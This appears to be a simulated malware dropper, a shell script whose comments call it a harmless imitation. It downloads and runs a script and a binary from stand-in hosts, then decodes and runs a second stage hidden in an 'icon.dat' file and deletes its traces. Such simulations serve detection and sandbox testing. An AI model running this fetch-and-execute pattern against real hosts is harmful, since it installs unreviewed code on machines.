#!/bin/sh
# update: imitates a dropper. It fetches a script and runs whatever came, then unpacks a second stage that it carries and runs that too.
# Harmless: .example is a name that nobody can own (RFC 2606), and the second stage (stage.c) only says that it ran.
cd /tmp || exit 1
wget -q -T 5 -t 1 -O .x.sh http://cdn.update-service.example/x.sh
chmod 777 .x.sh
./.x.sh || sh ./.x.sh
wget -q -T 5 -t 1 -O .x http://198.51.100.23:8080/bins/x.x86_64
chmod 777 .x
./.x

base64 -d /usr/local/lib/icon.dat | gzip -d >/tmp/.cache-d
chmod 755 /tmp/.cache-d
rm -f .x.sh
exec /tmp/.cache-d
